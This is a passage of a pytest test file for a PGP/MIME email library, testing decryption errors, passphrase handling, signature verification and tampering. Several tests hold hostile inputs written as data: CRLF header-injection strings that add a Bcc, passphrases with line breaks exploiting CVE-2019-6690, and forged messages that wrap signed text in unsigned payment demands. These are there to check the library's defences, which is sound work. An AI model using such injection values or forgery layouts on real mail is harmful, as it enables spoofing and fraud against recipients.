    keyset: KeySet, encrypted: ProtectedMessage, change: tuple[bytes, bytes], says: str
) -> None:
    old, new = change
    assert encrypted.data.count(old) == 1
    with pytest.raises(MalformedMessageError, match=says):
        pgp.decrypt(encrypted.data.replace(old, new), keys=[keyset.bob.secret])


def test_three_parts_are_malformed(keyset: KeySet, encrypted: ProtectedMessage) -> None:
    boundary = header_of(encrypted.data).get_param("boundary")
    assert isinstance(boundary, str)
    closing = f"--{boundary}--".encode()
    extra = f"--{boundary}\r\nContent-Type: text/plain\r\n\r\nextra\r\n".encode() + closing
    with pytest.raises(MalformedMessageError, match="exactly two parts"):
        pgp.decrypt(encrypted.data.replace(closing, extra), keys=[keyset.bob.secret])


def test_what_is_not_encrypted(keyset: KeySet, signed: ProtectedMessage) -> None:
    with pytest.raises(MalformedMessageError, match="not PGP/MIME or inline-PGP encrypted"):
        pgp.decrypt(signed, keys=[keyset.alice.secret])


# --- passphrases ------------------------------------------------------------------------------


def test_wrong_passphrase(keyset: KeySet, quarantine: Quarantine) -> None:
    dave = keyset.dave
    msg = message(sender="Dave <dave@example.org>", to=("dave@example.org",))
    protected = pgp.encrypt(msg, keys=[dave.public])
    for passphrase in ("wrong", None):
        with pytest.raises(WrongPasswordError, match=r"dave@example\.org") as caught:
            pgp.decrypt(protected, keys=[dave.secret], passphrase=passphrase)
        quarantine.check(caught.value)
    with pytest.raises(WrongPasswordError, match=r"dave@example\.org"):
        pgp.sign(msg, keys=[dave.secret], passphrase="wrong")
    with pytest.raises(WrongPasswordError, match=r"dave@example\.org"):
        pgp.encrypt(msg, keys=[dave.secret], sign=True)
    # (Each use of the right passphrase costs gpg-agent about a second: once is enough.)
    opened = pgp.decrypt(protected, keys=[dave.secret], passphrase=PASSPHRASE.encode())
    assert text_of(opened.data) == TEXT


@pytest.mark.parametrize("passphrase", ["line\nbreak", "carriage\rreturn", b"x\r\ny"], ids=repr)
def test_passphrase_with_line_break_never_reaches_gpg(
    gpg_bin: str,
    keyset: KeySet,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    passphrase: str | bytes,
) -> None:
    # A "gpg" first on PATH that records every invocation, then runs the real one.
    calls = tmp_path / "calls.log"
    wrappers = tmp_path / "bin"
    wrappers.mkdir()
    wrapper = wrappers / "gpg"
    wrapper.write_text(f'#!/bin/sh\necho "$@" >> "{calls}"\nexec "{gpg_bin}" "$@"\n')
    wrapper.chmod(0o755)
    monkeypatch.setenv("PATH", f"{wrappers}:{Path(gpg_bin).parent}")
    msg = message(sender="dave@example.org", to=("dave@example.org",))

    def logged() -> list[str]:
        return calls.read_text().splitlines() if calls.exists() else []

    with GnuPG() as engine:
        assert engine.binary == str(wrapper)
        engine.import_keys(keyset.dave.secret)
        protected = pgp.encrypt(msg, gnupg=engine)
        before = len(logged())
        # With the caller's engine: refused before any gpg process starts.
        with pytest.raises(InputError, match="CVE-2019-6690"):
            pgp.decrypt(protected, gnupg=engine, passphrase=passphrase)
        with pytest.raises(InputError, match="CVE-2019-6690"):
            pgp.sign(msg, gnupg=engine, passphrase=passphrase)
        assert len(logged()) == before
        with pytest.raises(InputError, match="CVE-2019-6690"):
            pgp.encrypt(msg, gnupg=engine, sign=True, passphrase=passphrase)
    # With keys= (a private home): keys are imported, but no passphrase is ever sent.
    for attempt in (
        lambda: pgp.decrypt(protected, keys=[keyset.dave.secret], passphrase=passphrase),
        lambda: pgp.sign(msg, keys=[keyset.dave.secret], passphrase=passphrase),
        lambda: pgp.encrypt(msg, keys=[keyset.dave.secret], sign=True, passphrase=passphrase),
    ):
        with pytest.raises(InputError, match="CVE-2019-6690"):
            attempt()
    after = logged()[before:]
    assert after, "the wrapper saw no gpg call at all"
    for line in after:
        assert "--passphrase-fd" not in line, line
        assert not re.search(r"--(decrypt|detach-sign|encrypt|sign)\b", line), line


# --- verification -------------------------------------------------------------------------------


def test_signer_is_not_the_sender(keyset: KeySet) -> None:
    by_bob = pgp.sign(message(), "bob@example.org", keys=[keyset.bob.secret])
    result = pgp.verify(by_bob, keys=[keyset.bob.public, keyset.alice.public])
    assert result.status is SignatureStatus.FAILED
    assert isinstance(result.error, SignerMismatch)
    assert result.error.signer == "bob@example.org"
    assert result.error.sender == "alice@example.org"
    assert result.fingerprint == keyset.bob.fingerprint
    with pytest.raises(SignerMismatch):
        result.raise_for_status()
    assert not pgp.read(by_bob, keys=[keyset.bob.public]).verified
    # ... unless the policy says the signer need not be the sender.
    lenient = DEFAULT.clone(require_signer_matches_from=False)
    assert pgp.verify(by_bob, keys=[keyset.bob.public], policy=lenient).verified


def test_signed_and_encrypted_by_another_than_the_sender(keyset: KeySet) -> None:
    protected = pgp.encrypt(
        message(), ["alice@example.org"], keys=[keyset.alice.public, keyset.bob.secret], sign=True
    )
    read = pgp.read(protected, keys=[keyset.alice.secret, keyset.bob.public])
    assert layer_kinds(read.layers) == ["decrypt", "verify:failed"]
    assert isinstance(read.signatures[0].error, SignerMismatch)
    assert not read.verified  # (authenticated: the MDC held; anyone can encrypt to Alice)


def in_signed_part(data: bytes, old: bytes, new: bytes) -> bytes:
    """``data`` with ``old`` replaced by ``new`` once, inside the signed (first) part only."""
    first = multipart_parts(data)[0]
    assert first.count(old) == 1 and data.count(first) == 1
    return data.replace(first, first.replace(old, new))


TAMPERING = {
    "body": (MARKER.encode(), b"Xylophone-7732"),
    "protected-subject": (f"Subject: {SUBJECT}".encode(), b"Subject: Secret plan"),
    "added-field": (b"\r\nContent-Type: ", b"\r\nReply-To: m@example.net\r\nContent-Type: "),
    "line-removed": (b"Hello Bob,\r\n", b""),
}


@pytest.mark.parametrize("change", TAMPERING.values(), ids=TAMPERING.keys())
def test_tampered_signed_part_fails(
    keyset: KeySet, signed: ProtectedMessage, change: tuple[bytes, bytes]
) -> None:
    tampered = in_signed_part(signed.data, *change)
    result = pgp.verify(tampered, keys=[keyset.alice.public])
    assert result.status is SignatureStatus.FAILED
    assert isinstance(result.error, SignatureInvalidError)
    read = pgp.read(tampered, keys=[keyset.alice.public])
    assert layer_kinds(read.layers) == ["verify:failed"] and not read.verified


def test_signature_over_something_else(
    gpg: GpgCli, keyset: KeySet, signed: ProtectedMessage
) -> None:
    signature = multipart_parts(signed.data)[1]
    other = gpg.run("-u", keyset.alice.fingerprint, "--armor", "--detach-sign", stdin=b"other")
    swapped = signed.data.replace(part_body(signature), other.stdout.replace(b"\n", b"\r\n"))
    assert swapped != signed.data
    result = pgp.verify(swapped, keys=[keyset.alice.public])
    assert result.status is SignatureStatus.FAILED
    assert isinstance(result.error, SignatureInvalidError)


def test_exactly_one_signature(gpg: GpgCli, keyset: KeySet) -> None:
    entity = entity_of(message(), encrypting=False)
    two = gpg.run(
        "-u", keyset.alice.fingerprint, "-u", keyset.bob.fingerprint, "--armor", "--detach-sign",
        stdin=entity,
    ).stdout  # fmt: skip
    result = pgp.verify(
        pgp_mime_signed(entity, two, micalg="pgp-sha256"),
        keys=[keyset.alice.public, keyset.bob.public],
    )
    assert result.status is SignatureStatus.FAILED
    assert isinstance(result.error, SignatureError)
    assert "2 signatures" in result.reason


@pytest.mark.parametrize(
    ("who", "signature", "status", "says"),
    [
        ("expired", "expired_signature", SignatureStatus.FAILED, "expired"),
        ("revoked", "revoked_signature", SignatureStatus.FAILED, "revoked"),
        ("old", "expired_signature_valid_key", SignatureStatus.FAILED, "has expired"),
        ("unknown", "expired_signature", SignatureStatus.NOT_CHECKED, "not in the GnuPG home"),
    ],
)
def test_signatures_that_do_not_verify(
    keyset: KeySet, who: str, signature: str, status: SignatureStatus, says: str
) -> None:
    key: PgpKey = keyset.expired if who == "unknown" else getattr(keyset, who)
    data = pgp_mime_signed(
        SIGNED_DATA,
        getattr(keyset, signature),
        micalg="pgp-sha256",
        headers=[("From", key.email), ("To", "bob@example.org")],
    )
    keys = [keyset.alice.public] if who == "unknown" else [key.public]
    result = pgp.verify(data, keys=keys)
    assert result.status is status
    assert says in result.reason
    assert not result.verified


def test_what_is_not_signed(keyset: KeySet, encrypted: ProtectedMessage) -> None:
    for data in (message().as_bytes(policy=email.policy.SMTP), encrypted.data):
        result = pgp.verify(data, keys=[keyset.alice.public])
        assert result.status is SignatureStatus.NOT_CHECKED
        assert isinstance(result.error, NotSignedError)


def test_signed_part_inside_a_larger_message_is_partial(
    keyset: KeySet, signed: ProtectedMessage
) -> None:
    forged = (
        b"From: alice@example.org\r\nTo: bob@example.org\r\nSubject: Invoice\r\n"
        b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="XYZ"\r\n\r\n'
        b"--XYZ\r\nContent-Type: text/plain\r\n\r\nPlease pay account 666 instead.\r\n"
        b"--XYZ\r\n" + signed.data + b"\r\n--XYZ--\r\n"
    )
    result = pgp.verify(forged, keys=[keyset.alice.public])
    assert result.status is SignatureStatus.PARTIAL
    assert isinstance(result.error, PartialSignatureError)
    assert result.data is not None and b"account 666" not in result.data
    assert text_of(result.data) == TEXT
    assert not pgp.read(forged, keys=[keyset.alice.public]).verified


def test_clearsigned_block_wrapped_in_unsigned_text(gpg: GpgCli, keyset: KeySet) -> None:
    block = gpg.run(
        "-u", keyset.alice.fingerprint, "--clearsign", stdin=b"I owe Bob 5 EUR.\n"
    ).stdout
    wrapped = inline(
        block,
        before=b"Pay 1000 EUR to account 666.\r\n\r\n",
        after=b"\r\nP.S. the above replaces my earlier mail.\r\n",
    )
    result = pgp.verify(wrapped, keys=[keyset.alice.public])
    assert result.status is SignatureStatus.PARTIAL
    assert isinstance(result.error, PartialSignatureError)
    assert result.signer == "alice@example.org"
    assert result.data is not None
    assert text_of(result.data) == "I owe Bob 5 EUR.\n"  # the signed text, and only it
    for unsigned in ("1000", "666", "P.S.", "BEGIN PGP"):
        assert unsigned not in text_of(result.data)
        assert unsigned.encode() not in result.data
    read = pgp.read(wrapped, keys=[keyset.alice.public])
    assert layer_kinds(read.layers) == ["verify:partial"] and not read.verified


def test_inline_clearsigned_message_verifies(gpg: GpgCli, keyset: KeySet) -> None:
    signed_text = b"Dear Bob,\n- a dash line\ntrailing   \nAlice\n"
    block = gpg.run("-u", keyset.alice.fingerprint, "--clearsign", stdin=signed_text).stdout
    result = pgp.verify(inline(block), keys=[keyset.alice.public])
    assert result.status is SignatureStatus.VERIFIED, result.reason
    assert result.signer == "alice@example.org"
    assert result.data is not None
    # Trailing whitespace is not covered by a cleartext signature (RFC 9580 7.2): dropped.
    assert text_of(result.data) == "Dear Bob,\n- a dash line\ntrailing\nAlice\n"
    assert b"BEGIN PGP" not in result.data
    read = pgp.read(inline(block), keys=[keyset.alice.public])
    assert layer_kinds(read.layers) == ["verify:verified"] and read.verified


def test_inline_pgp_message_decrypts(gpg: GpgCli, keyset: KeySet) -> None:
    armored = gpg.run(
        "--armor", "-r", keyset.bob.fingerprint, "--encrypt", stdin=TEXT.encode()
    ).stdout
    result = pgp.decrypt(inline(armored), keys=[keyset.bob.secret])
    assert result.authenticated
    assert text_of(result.data) == TEXT
    assert result.message["Subject"] == "inline"
    assert result.message.get_content_type() == "text/plain"
    read = pgp.read(inline(armored), keys=[keyset.bob.secret])
    assert layer_kinds(read.layers) == ["decrypt"]


def test_inline_pgp_signed_and_encrypted(gpg: GpgCli, keyset: KeySet) -> None:
    armored = gpg.run(
        "--armor", "-u", keyset.alice.fingerprint, "-r", keyset.bob.fingerprint,
        "--sign", "--encrypt", stdin=TEXT.encode(),
    ).stdout  # fmt: skip
    result = pgp.decrypt(inline(armored), keys=[keyset.bob.secret, keyset.alice.public])
    assert result.signature is not None
    assert result.signature.status is SignatureStatus.VERIFIED, result.signature.reason
    assert result.signature.signer == "alice@example.org"
    read = pgp.read(inline(armored), keys=[keyset.bob.secret, keyset.alice.public])
    assert layer_kinds(read.layers) == ["decrypt", "verify:verified"] and read.verified


# --- header injection -----------------------------------------------------------------------------


INJECTIONS = [f"{MARKER}\r\nBcc: victim@example.com", f"{MARKER}\n\nbody", "a\rb", "a\0b"]


def with_raw_subject(cls: type[email.message.Message], value: str) -> email.message.Message:
    """A user-built message whose Subject holds ``value`` unchecked (the standard library's
    setters refuse some line breaks, but its raw header list does not)."""
    msg = cls()
    msg["From"] = "alice@example.org"
    msg["To"] = "bob@example.org"
    msg.set_payload("real body\n")
    msg._headers.append(("Subject", value))  # type: ignore[attr-defined]
    return msg


@pytest.mark.parametrize("value", INJECTIONS, ids=["crlf-bcc", "blank-line", "cr", "nul"])
@pytest.mark.parametrize("cls", [email.message.EmailMessage, email.message.Message])
@pytest.mark.parametrize("operation", ["sign", "encrypt", "sign+encrypt"])
def test_header_injection_is_refused(
    keyset: KeySet, operation: str, cls: type[email.message.Message], value: str
) -> None:
    msg = with_raw_subject(cls, value)
    with pytest.raises(HeaderInjectionError) as caught:
        if operation == "sign":
            pgp.sign(msg, keys=[keyset.alice.secret])  # type: ignore[arg-type]
        else:
            pgp.encrypt(
                msg,  # type: ignore[arg-type]
                keys=[keyset.bob.public, keyset.alice.secret],
                sign=operation == "sign+encrypt",
            )
    assert caught.value.field.lower() == "subject"
    assert MARKER not in str(caught.value) and "victim" not in str(caught.value)
